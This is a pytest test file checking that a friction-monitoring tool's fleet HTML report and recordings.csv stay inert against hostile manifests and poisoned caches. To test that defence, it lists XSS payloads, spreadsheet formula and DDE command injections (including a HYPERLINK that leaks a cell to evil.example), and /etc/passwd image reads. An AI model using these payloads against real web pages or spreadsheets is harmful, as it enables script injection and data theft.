# SPDX-License-Identifier: Apache-2.0
# Copyright 2026 friction_joint maintainers
"""
``friction_joint fleet`` against a hostile manifest and a poisoned cache.

A tiny simulated fleet (2 joints x 2 days) is monitored once (module
fixture: its four results in ``cache.json``).  The tests then run the command
again, with ``--force`` into a copy of that DIR, on manifests whose rows are
copies of the four recordings (so every result comes from the cache: no
cluster is started) under hostile joint ids, paths and metadata, or with a
poisoned ``cache.json``:

* the report is inert: its DOM (``html.parser``) has no script, no ``on*``
  handler, no ``javascript:`` link, no iframe, and its only images are its
  own trend plots; no file named by a payload is read (a private file, a
  FIFO, ``/dev/zero``); recordings.csv has no cell a spreadsheet runs;
* a poisoned cache entry is recomputed with a one-line warning, never a
  traceback.
"""
import base64
import csv
import dataclasses
import html.parser
import json
import math
import os
import re
import shutil
import warnings

from friction_joint.cli import main
from friction_joint.exceptions import CacheWarning, InputFileError
from friction_joint.fleet import local_cluster
from friction_joint.fleet.recording import FIT_VERSION, RecordingResult, result_problem
from friction_joint.fleet.report import csv_cell, FORMULA_START
from friction_joint.gear import load_gear
from friction_joint.jobs.fleet import _read_cache, CACHE_NAME
from friction_joint.jobs.fleet_simulation import run_fleet_simulation
from friction_joint.report_html import markdown_text, markdown_to_html, write_html_report
from hypothesis import given, HealthCheck, settings, strategies as st
import pytest

ROOT = os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
MODEL = os.path.join(ROOT, 'config', 'csd25.yaml')
SHORT = {'speeds': (0.5, 2.0)}
PNG = b'\x89PNG\r\n\x1a\n'

#: injection payloads: joint ids, recording names, metadata (the issue's list and more)
PAYLOADS = [
    '<script>alert(1)</script>',
    '<svg onload=alert(1)>',
    '<iframe srcdoc="<script>alert(2)</script>"></iframe>',
    '[x](javascript:alert(3))',
    '[y](&#106;avascript:alert(4))',
    '[z](JaVa\tScRiPt:alert(5))',
    '<a href="javascript:alert(6)">a</a>',
    '<img src=/etc/passwd>',
    '<img src=x onerror=alert(7)>',
    '![p](/etc/passwd.png)',
    '<body onload=alert(8)>',
    '<details open ontoggle=alert(9)>',
    '"><script>alert(10)</script>',
    '<object data="javascript:alert(11)">',
    '<math><mi xlink:href="javascript:alert(12)">m</mi></math>',
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '@SUM(1)',
    '\tTAB=1+1',
    '$\\frac{$ | pipe | `tick` ~~strike~~ **bold**',
]


def _page_dom(text):
    """Return ``(start tags [(tag, attrs)], text data)`` of an HTML page."""
    tags, data = [], []

    class Parser(html.parser.HTMLParser):
        def handle_starttag(self, tag, attrs):
            tags.append((tag, attrs))

        def handle_startendtag(self, tag, attrs):
            tags.append((tag, attrs))

        def handle_data(self, d):
            data.append(d)

    p = Parser(convert_charrefs=True)
    p.feed(text)
    p.close()
    return tags, ''.join(data)


def _scheme(url):
    plain = ''.join(c for c in url if c.isprintable() and not c.isspace()).lower()
    return plain.split(':', 1)[0] if ':' in plain.split('/', 1)[0] else ''


def assert_inert(page, own_images, secrets=()):
    """Check a report page's DOM: nothing runs, the only images are ``own_images`` PNGs."""
    tags, _ = _page_dom(page)
    body = tags[[t for t, _ in tags].index('main'):]
    names = [t for t, _ in body]
    for bad in ('script', 'iframe', 'frame', 'object', 'embed', 'svg', 'math', 'base', 'form',
                'style', 'meta', 'link', 'details', 'body'):
        assert bad not in names, bad
    imgs = []
    for tag, attrs in tags:
        for name, value in attrs:
            assert not name.lower().startswith('on'), (tag, name, value)
            assert name.lower() not in ('srcdoc', 'xlink:href', 'formaction'), (tag, name)
            if name.lower() in ('href', 'src', 'action', 'data'):
                assert _scheme(value or '') in ('', 'http', 'https', 'mailto', 'data'), value
                if _scheme(value or '') == 'data':
                    assert tag == 'img' and value.startswith('data:image/png;base64,'), value
        if tag == 'img':
            src = dict(attrs)['src']
            assert src.startswith('data:image/png;base64,'), src[:80]
            imgs.append(base64.b64decode(src.split(',', 1)[1], validate=True))
    assert len(imgs) == own_images
    assert all(img.startswith(PNG) for img in imgs)
    for secret in secrets:
        assert base64.b64encode(secret).decode() not in page
        assert all(secret not in img for img in imgs)


@pytest.fixture(scope='module')
def monitored(tmp_path_factory):
    """Simulate the tiny fleet and monitor it once: DIR holds the four results' cache."""
    root = tmp_path_factory.mktemp('hostile')
    run_fleet_simulation(root / 'fleet', joints=2, days=2, seed=5, cfg=SHORT)
    rc = main(['fleet', '--manifest', str(root / 'fleet' / 'manifest.csv'), '--model', MODEL,
               '--out', str(root / 'out'), '--workers', '1', '--quiet'])
    assert rc == 0
    with open(root / 'fleet' / 'manifest.csv', encoding='utf-8') as fh:
        rows = list(csv.DictReader(fh))
    return {'root': root, 'recordings': [root / 'fleet' / r['recording'] for r in rows],
            'rows': rows}


def _site(monitored, tmp_path):
    """Copy DIR (with its cache) into ``tmp_path/out``; return it."""
    out = tmp_path / 'out'
    shutil.copytree(monitored['root'] / 'out', out)
    return out


def _write(path, header, rows):
    with open(path, 'w', encoding='utf-8', newline='') as fh:
        w = csv.writer(fh, lineterminator='\n')
        w.writerow(header)
        w.writerows(rows)


def test_report_of_injection_payloads_is_inert(monitored, tmp_path, capsys):
    out = _site(monitored, tmp_path)
    secret = b'PRIVATE-BYTES-' + os.urandom(16)
    (tmp_path / 'secret.png').write_bytes(PNG + secret)
    os.mkfifo(tmp_path / 'pipe.png')
    os.symlink('/dev/zero', tmp_path / 'zero.png')
    files = [f'<img src={tmp_path / "secret.png"}>', f'![s]({tmp_path / "secret.png"})',
             '<img src=pipe.png>', '![f](pipe.png)', '<img src=zero.png>', '![z](zero.png)',
             f'<img src=file://{tmp_path / "secret.png"}>']
    # joint ids with control characters are refused by the manifest: those go to metadata
    joints = [p for p in PAYLOADS if p.isprintable()] + files
    os.mkdir(tmp_path / 'recs')
    rows = []
    for k, joint in enumerate(joints):
        src = monitored['recordings'][k % len(monitored['recordings'])]
        name = f'recs/r{k:02d}.mcap'
        shutil.copy(src, tmp_path / name)
        meta = PAYLOADS[k % len(PAYLOADS)]
        rows.append([name, joint, monitored['rows'][k % 4]['time'], meta, 'plain'])
    # a missing recording whose path is a payload: its failure reason quotes it
    rows.append(['recs/<script>alert(13)<!--.mcap', '[r](javascript:alert(14))',
                 '2026-03-04T10:00:00', '=1+1', '@x'])
    _write(tmp_path / 'm.csv', ['recording', 'joint', 'time', 'note',
                                '=HYPERLINK("http://evil.example")'], rows)
    rc = main(['fleet', '--manifest', str(tmp_path / 'm.csv'), '--model', MODEL, '--out',
               str(out), '--force', '--quiet'])
    captured = capsys.readouterr()
    assert rc == 0, captured.err
    assert f'{len(joints) + 1} joints' in captured.out and '0 computed' in captured.out
    page = (out / 'report.html').read_text(encoding='utf-8')
    assert_inert(page, own_images=len(joints) + 1, secrets=[secret])
    _, text = _page_dom(page)
    for joint in joints:                                  # shown as written
        assert ' '.join(joint.split()) in ' '.join(text.split()), joint
    assert 'alert(13)' in text                            # the failure reason, escaped
    with open(out / 'recordings.csv', encoding='utf-8', newline='') as fh:
        table = list(csv.reader(fh))
    cells = [c for row in table for c in row]
    for c in cells:
        if c.startswith(FORMULA_START):
            float(c)                                      # only numbers may start with '-'
    assert "'=HYPERLINK(\"http://evil.example\")" in table[0]
    joint_col = [row[0] for row in table[1:]]
    assert "'" + PAYLOADS[15] in joint_col and "'@SUM(1)" in joint_col
    assert '<script>alert(1)</script>' in joint_col
    notes = [row[table[0].index('note')] for row in table[1:]]
    assert "'@SUM(1)" in notes and "'" + PAYLOADS[15] in notes and "'=1+1" in notes
    assert '[z](JaVa\tScRiPt:alert(5))' in notes           # kept as written, never a link


# --------------------------------------------------------------- fuzz: reports ---

#: pieces of markup the generated report texts are made of
_PIECES = ['<', '>', '</', '[', ']', '(', ')', '![', '](', 'javascript:', 'JaVaScRiPt:',
           'vbscript:', 'data:text/html,', '&#106;', '&#x6a;', '&colon;', 'script', 'iframe',
           'svg', 'img', ' src=', ' href=', ' onerror=', ' onload=', 'alert(1)', '"', "'", '`',
           '```\n', '\n', '\n\n', '|', '---', '$', '\\', '&', ';', '\t', '\x00', '*', '_', '#',
           '- ', '1. ', '    ', 'http://x.example/', '//x.example', '/etc/passwd', '.png',
           '<!--', '-->', '<![CDATA[', '=', '+', '@', 'x']
_REPORT_TEXT = st.lists(st.one_of(st.sampled_from(_PIECES), st.text(max_size=4)),
                        max_size=40).map(''.join)


@settings(max_examples=300, deadline=None, derandomize=True, database=None)
@given(_REPORT_TEXT)
def test_fuzz_any_markdown_renders_inert(text):
    page = markdown_to_html(text, images={'own.png': PNG + b'own'}, title=text)
    assert_inert(page, own_images=page.count('<img'))
    assert '<img' not in page or page.count('<img') == text.count('own.png')


@settings(max_examples=300, deadline=None, derandomize=True, database=None)
@given(_REPORT_TEXT)
def test_fuzz_escaped_text_shows_as_written(text):
    page = markdown_to_html(f'# {markdown_text(text)}\n\n| a |\n|---|\n| {markdown_text(text)} |'
                            f'\n\n{markdown_text(text)}\n', images={})
    assert_inert(page, own_images=0)
    tags, shown = _page_dom(page.split('<main>', 1)[1])
    assert {t for t, _ in tags} <= {'h1', 'table', 'thead', 'tbody', 'tr', 'th', 'td', 'p'}
    plain = ' '.join(re.sub('[\x00-\x1f\x7f\u2028\u2029]', ' ', text).split())
    assert ' '.join(shown.split()).count(plain) >= 3 or not plain, (text, shown)


@settings(max_examples=200, deadline=None, derandomize=True, database=None)
@given(st.text(max_size=20))
def test_fuzz_csv_cells_never_start_a_formula(text):
    cell = csv_cell(text)
    assert not cell.startswith(FORMULA_START)
    assert cell in (text, "'" + text)


# ------------------------------------------------------------ poisoned cache ---

@pytest.fixture(scope='module')
def scheduler():
    """Start one worker for the module's recomputations (no cluster start per run)."""
    with local_cluster(workers=1) as (address, _):
        yield address


def _poisoned(monitored, tmp_path, poison):
    """Copy DIR; apply ``poison(entry)`` to the cache entry of the manifest's first row."""
    out = _site(monitored, tmp_path)
    path = out / CACHE_NAME
    doc = json.loads(path.read_text(encoding='utf-8'))
    first = str(monitored['recordings'][0])
    key = next(k for k, e in doc['entries'].items() if e['path'] == first)
    doc['entries'][key] = poison(dict(doc['entries'][key]))
    path.write_text(json.dumps(doc), encoding='utf-8')       # NaN, Infinity as Python writes
    return out


def _rerun(monitored, out, scheduler, capsys):
    with warnings.catch_warnings(record=True) as caught:
        warnings.simplefilter('always')
        rc = main(['fleet', '--manifest', str(monitored['root'] / 'fleet' / 'manifest.csv'),
                   '--model', MODEL, '--out', str(out), '--force', '--scheduler', scheduler,
                   '--quiet'])
    captured = capsys.readouterr()
    assert rc == 0, captured.err
    assert 'Traceback' not in captured.err
    mine = [w for w in caught if issubclass(w.category, CacheWarning)]
    assert len(mine) == 1, [str(w.message) for w in caught]
    message = str(mine[0].message)
    assert '\n' not in message and CACHE_NAME in message
    gear = load_gear(MODEL)
    doc = json.loads((out / CACHE_NAME).read_text(encoding='utf-8'))
    assert len(doc['entries']) == 4
    assert all(result_problem(e, gear) is None for e in doc['entries'].values())
    return captured.out, message


def _set(**changes):
    return lambda e: dict(e, **changes)


def _negative_variance(cov):
    return [[-abs(x) - 1 if i == j else x for j, x in enumerate(row)]
            for i, row in enumerate(cov)]


#: poisons of one cache entry: (id, poison, words of the warning)
ENTRY_POISONS = [
    ('string-for-number', _set(speed='fast'), 'speed'),
    ('string-digits', _set(rms='0.1'), 'rms'),
    ('bool-for-count', _set(plateaus=True), 'plateaus'),
    ('unknown-term', _set(terms=[['fc', 0], ['fv', 0], ['zz', 3]]), 'zz'),
    ('term-index-out-of-model', _set(terms=[['fc', 0], ['fv', 0], ['fc', 9]]), 'term'),
    ('term-twice', _set(terms=[['fc', 0], ['fc', 0]]), 'twice'),
    ('cov-wrong-shape', _set(cov=[[1.0]]), 'cov'),
    ('cov-ragged', lambda e: dict(e, cov=[row[:1] for row in e['cov']]), 'cov'),
    ('cov-negative-variance', lambda e: dict(e, cov=_negative_variance(e['cov'])),
     'covariance'),
    ('delta-short', lambda e: dict(e, delta=e['delta'][:-1]), 'delta'),
    ('nan-delta', lambda e: dict(e, delta=[math.nan] * len(e['delta'])), 'delta'),
    ('nan-rms', _set(rms=math.nan), 'rms'),
    ('inf-xi', _set(xi_mean=math.inf), 'xi_mean'),
    ('huge-speed', _set(speed=1e300), 'speed'),
    ('range-reversed', _set(xi_range=[40.0, 10.0]), 'xi_range'),
    ('not-an-object', lambda e: [1, 2, 3], 'not an object'),
    ('null', lambda e: None, 'not an object'),              # was recomputed silently
    ('version-as-text', _set(version=str(FIT_VERSION)), 'version'),     # silently too
    ('other-version', _set(version=FIT_VERSION + 1), 'version'),
    ('unknown-key', _set(extra=1), 'unknown key'),
    ('missing-key', lambda e: {k: v for k, v in e.items() if k != 'cov'}, 'lacks cov'),
    ('bad-status', _set(status='<b>ok</b>'), 'status'),
    ('multi-line-reason', _set(reason='a\n<script>alert(1)</script>'), 'reason'),
]


@pytest.mark.parametrize('poison, words', [p[1:] for p in ENTRY_POISONS],
                         ids=[p[0] for p in ENTRY_POISONS])
def test_poisoned_cache_entry_is_recomputed_with_one_warning(monitored, tmp_path, capsys,
                                                             scheduler, poison, words):
    out = _poisoned(monitored, tmp_path, poison)
    printed, message = _rerun(monitored, out, scheduler, capsys)
    assert '1 computed, 3 from the cache' in printed, printed
    assert 'row 2' in message and words in message and '1 cached result refused' in message


@pytest.mark.parametrize('content', [
    b'not json', b'{"entries": [1, 2]}', b'[' * 100000, b'{"entries": {"a": 1e999}}x',
    b'\xff\xfe', b'{"entries": null}'])
def test_unreadable_cache_file_recomputes_everything_with_one_warning(monitored, tmp_path,
                                                                      capsys, scheduler,
                                                                      content):
    out = _site(monitored, tmp_path)
    (out / CACHE_NAME).write_bytes(content)
    printed, message = _rerun(monitored, out, scheduler, capsys)
    assert '4 computed, 0 from the cache' in printed and 'recomputed' in message


@pytest.mark.parametrize('special', ['fifo', 'dev-zero'])
def test_special_cache_file_is_never_opened(monitored, tmp_path, capsys, scheduler, special):
    out = _site(monitored, tmp_path)
    os.unlink(out / CACHE_NAME)
    if special == 'fifo':
        os.mkfifo(out / CACHE_NAME)
    else:
        os.symlink('/dev/zero', out / CACHE_NAME)
    printed, message = _rerun(monitored, out, scheduler, capsys)
    assert '4 computed' in printed and ('FIFO' in message or 'device' in message), message


def test_cached_failure_reason_is_shown_as_text(monitored, tmp_path, capsys):
    def failed(e):
        return {'path': e['path'], 'status': 'failed', 'version': FIT_VERSION, 'time_s': 0.1,
                'reason': '<script>alert(1)</script> [x](javascript:alert(2)) '
                          '<img src=/etc/passwd> =HYPERLINK("x")'}
    out = _poisoned(monitored, tmp_path, failed)
    rc = main(['fleet', '--manifest', str(monitored['root'] / 'fleet' / 'manifest.csv'),
               '--model', MODEL, '--out', str(out), '--force', '--quiet'])
    assert rc == 0 and '0 computed, 4 from the cache' in capsys.readouterr().out
    page = (out / 'report.html').read_text(encoding='utf-8')
    assert_inert(page, own_images=2)
    assert '<script>alert(1)</script> [x](javascript:alert(2))' in _page_dom(page)[1]


# ----------------------------------------------------------- fuzz: the cache ---

def _json_values():
    leaf = st.one_of(st.none(), st.booleans(), st.integers(-10 ** 20, 10 ** 20),
                     st.floats(allow_nan=True, allow_infinity=True), st.text(max_size=5))

    def nested(kids):
        return st.one_of(st.lists(kids, max_size=4),
                         st.dictionaries(st.text(max_size=4), kids, max_size=3))
    return st.recursive(leaf, nested, max_leaves=12)


@pytest.fixture(scope='module')
def sound_entry(monitored):
    doc = json.loads((monitored['root'] / 'out' / CACHE_NAME).read_text(encoding='utf-8'))
    return next(iter(doc['entries'].values()))


@settings(max_examples=300, deadline=None, derandomize=True, database=None,
          suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(data=st.data())
def test_fuzz_cache_entries_are_refused_or_usable(sound_entry, data):
    entry = json.loads(json.dumps(sound_entry))
    for _ in range(data.draw(st.integers(1, 3))):
        key = data.draw(st.sampled_from(sorted(entry) + ['new']))
        how = data.draw(st.sampled_from(['replace', 'delete', 'nudge']))
        if how == 'delete':
            entry.pop(key, None)
        elif how == 'nudge' and isinstance(entry.get(key), list) and entry[key]:
            entry[key] = entry[key][:-1] if data.draw(st.booleans()) else entry[key] * 2
        else:
            entry[key] = data.draw(_json_values())
    gear = load_gear(MODEL)
    if result_problem(entry, gear) is None:              # usable: the assessment works
        from friction_joint.fleet.assess import assess_fleet
        from friction_joint.fleet.manifest import ManifestEntry
        import datetime
        rows = [ManifestEntry(2 + k, f'r{k}', f'/r{k}', 'j1',
                              datetime.datetime(2026, 3, 2 + k, tzinfo=datetime.timezone.utc))
                for k in range(2)]
        assess_fleet(rows, [RecordingResult.from_dict(entry),
                            RecordingResult.from_dict(sound_entry)], gear)


def test_a_result_round_trips_its_plain_form_key_for_key(sound_entry):
    """The cache's entries (and a Dask task's results) are the same bytes after the dataclass."""
    ok = RecordingResult.from_dict(sound_entry)
    assert ok.ok and isinstance(ok.terms, tuple) and not ok.cached
    assert json.dumps(ok.to_dict()) == json.dumps(sound_entry)
    failed = {'path': '/r', 'status': 'failed', 'reason': 'corrupt', 'version': FIT_VERSION,
              'time_s': 0.5}
    assert json.dumps(RecordingResult.from_dict(failed).to_dict()) == json.dumps(failed)
    died = {'path': '/r', 'status': 'failed', 'reason': 'its worker died'}
    back = RecordingResult.from_dict(died, cached=True)
    assert back.to_dict() == died and back.version is None and back.cached
    with pytest.raises(dataclasses.FrozenInstanceError):
        ok.status = 'failed'


@settings(max_examples=200, deadline=None, derandomize=True, database=None)
@given(st.one_of(st.binary(max_size=200), _json_values().map(lambda v: json.dumps(
    {'version': 1, 'entries': {'k': v}}).encode())))
def test_fuzz_cache_files_never_raise(tmp_path_factory, content):
    out = tmp_path_factory.mktemp('cache')
    (out / CACHE_NAME).write_bytes(content)
    entries, problem = _read_cache(out)
    assert isinstance(entries, dict) and (problem is None or '\n' not in problem)
    gear = load_gear(MODEL)
    for e in entries.values():
        assert result_problem(e, gear) is None or isinstance(result_problem(e, gear), str)


@pytest.mark.parametrize('image, words', [
    ('pipe.png', 'FIFO'), ('zero.png', 'outside'), ('{secret}', 'outside'),
    ('file://{secret}', 'outside'), ('../secret.png', 'outside'), ('link.png', 'outside')])
def test_markdown_report_embeds_only_its_own_directory(tmp_path, image, words):
    """A Markdown report's local images: regular files inside its directory, else one line."""
    secret = tmp_path / 'secret.png'
    secret.write_bytes(PNG + b'private')
    report = tmp_path / 'report'
    report.mkdir()
    os.mkfifo(report / 'pipe.png')
    os.symlink('/dev/zero', report / 'zero.png')
    os.symlink(secret, report / 'link.png')
    md = report / 'report.md'
    md.write_text(f'# R\n\n![i]({image.format(secret=secret)})\n', encoding='utf-8')
    with pytest.raises(InputFileError) as err:
        write_html_report(md)
    assert words in str(err.value) and '\n' not in str(err.value)
    assert not (report / 'report.html').exists()


def test_diagnose_report_of_a_payload_path_is_inert(tmp_path, monkeypatch):
    """``diagnose`` quotes its recordings' paths: its report.html stays inert too."""
    monkeypatch.chdir(tmp_path)
    name = '<img src=x onerror=alert(1)>[x](javascript:alert(2))<script>alert(3)</script>'
    shutil.copytree(os.path.join(ROOT, 'bags', 'csd25_sample'), tmp_path / name)
    base = os.path.join(ROOT, 'config', 'csd25_base.yaml')
    assert main(['diagnose', name, '--model', base, '--out', 'out', '--quiet']) == 0
    page = (tmp_path / 'out' / 'report.html').read_text(encoding='utf-8')
    figures = [f for f in os.listdir(tmp_path / 'out') if f.endswith('.png')]
    assert_inert(page, own_images=len(figures))
    assert name in _page_dom(page)[1]                     # shown as written


def test_the_summary_is_said_once(monitored, tmp_path, capsys):
    """One closing summary on stdout naming the wearing joints; stderr has timings, no repeat."""
    out = _site(monitored, tmp_path)
    rc = main(['fleet', '--manifest', str(monitored['root'] / 'fleet' / 'manifest.csv'),
               '--model', MODEL, '--out', str(out), '--workers', '1', '--force'])
    assert rc == 0
    said = capsys.readouterr()
    summary = [line for line in (said.out + said.err).splitlines() if ' wearing' in line]
    assert len(summary) == 1 and summary[0] in said.out, summary
    assert any(line.startswith('done in ') for line in said.err.splitlines()), said.err
